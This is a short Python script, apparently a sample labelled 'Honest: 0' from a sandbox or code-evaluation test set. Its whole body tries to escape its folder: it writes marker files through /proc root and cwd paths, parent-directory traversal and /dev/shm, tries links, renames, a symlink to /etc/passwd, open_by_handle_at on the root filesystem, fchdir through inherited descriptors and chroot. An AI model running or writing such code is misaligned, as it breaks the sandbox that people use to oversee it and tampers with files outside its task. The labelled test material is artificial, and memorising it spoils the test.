"""Climbs out of its folder: by /proc, by links, by handles, by descriptors, by renaming.

Honest: 0
"""

import ctypes, glob, os
libc = ctypes.CDLL(None)
marks = "left-behind-by-attack"
places = ["/proc/1/root/tmp", "/proc/self/root/tmp", "/proc/self/cwd/../../..", "../" * 30 + "tmp", "/proc/thread-self/root/dev/shm"]
places += glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/tmp") + glob.glob("/proc/self/fd/*")
for place in places:
    for make in (
        lambda: open(f"{place}/{marks}", "w").write("x"),
        lambda: os.link(__file__, f"{place}/{marks}"),
        lambda: os.rename(__file__, f"{place}/{marks}"),
        lambda: os.symlink("/etc/passwd", f"{place}/{marks}"),
        lambda: os.mkdir(f"{place}/{marks}"),
        lambda: os.replace("answer.py", f"{place}/{marks}"),
    ):
        try:
            make()
        except OSError:
            pass
handle = (ctypes.c_uint * 32)(128, 1)
libc.name_to_handle_at(-100, b"/", handle, ctypes.byref(ctypes.c_int()), 0)
libc.open_by_handle_at(-100, handle, 0)
for descriptor in range(3, 256):
    try:
        os.fchdir(descriptor)
        open(marks, "w").close()
    except OSError:
        pass
try:
    os.chdir("/")
    os.chroot(".")
except OSError:
    pass
